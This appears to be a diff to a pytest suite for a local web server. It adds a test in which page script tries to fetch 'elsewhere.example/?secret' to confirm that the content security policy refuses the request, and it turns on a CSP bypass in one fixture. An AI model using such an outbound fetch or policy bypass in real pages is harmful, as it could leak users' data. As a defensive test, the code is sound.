@@ -219,7 +219,7 @@ SLOW_CAMERA = """() => {
 @pytest.fixture
 def slow_camera(opened: Opened, bundle: Path) -> Iterator[Any]:
     with serve_web(bundle) as url:
-        page = opened(url)
+        page = opened(url, bypass_csp=True)  # a test's wait_for_function is an eval
         page.evaluate(SLOW_CAMERA)
         yield page
 
@@ -309,6 +309,17 @@ def test_a_bundle_that_is_named_by_a_link_is_served(bundle: Path) -> None:
     (bundle / "other.txt").symlink_to("labels.txt")
     with serve_web(bundle.parent / "named") as url, urllib.request.urlopen(f"{url}../../other.txt") as answer:
         assert answer.read() == (bundle / "labels.txt").read_bytes()
+
+
+REFUSED = """() => new Promise((done) => {
+  addEventListener("securitypolicyviolation", ({effectiveDirective}) => done(effectiveDirective));
+  fetch("http://elsewhere.example/?secret").then(() => done("sent"), () => setTimeout(done, 2000, "not refused"));
+})"""
+
+
+def test_a_script_of_the_page_can_send_nothing_elsewhere(opened: Opened, bundle: Path) -> None:
+    with serve_web(bundle) as url:
+        assert opened(url).evaluate(REFUSED) == "connect-src"
 
 
 def test_another_sites_name_for_this_machine_is_refused(bundle: Path) -> None:
